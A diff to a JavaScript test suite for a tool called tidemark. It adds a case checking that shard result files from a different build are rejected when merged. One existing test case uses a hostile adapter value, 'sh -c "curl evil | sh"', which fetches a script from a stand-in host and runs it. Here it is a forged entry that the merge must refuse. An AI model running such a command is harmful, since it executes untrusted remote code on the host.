@@ -276,6 +276,15 @@ describe('--shard I/N and tidemark merge', () => {
       ['unknown-field', (j) => (j.shard.trustMe = true), 'shard.trustMe is not a field tidemark writes'],
       ['foreign-entry', (j) => j.regressions.push({ adapter: 'command:sh -c "curl evil | sh"', kind: 'scenario', scenario: 'stale-token', anomaly: 'omission', status: 'pass' }), 'is "command:sh -c \\"curl evil | sh\\"", not the run\'s target'],
       ['edited-run', (j) => (j.run.identity.runs = 1), 'is not the one its identity gives'],
+      // Another commit of the same version: its identity is whole (its id recomputed), and only the build differs.
+      [
+        'other-build',
+        (j) => {
+          j.run.identity.tidemark = j.shard.tidemark = `${j.run.identity.tidemark.split('+')[0]}+000000000000`;
+          j.run.id = runId(j.run.identity);
+        },
+        'differ in the tidemark that ran them',
+      ],
     ];
     const untouched = await cli('merge', file('lie-1.json'), file('lie-2.json'));
     expect(untouched.code).toBe(EXIT.fail);
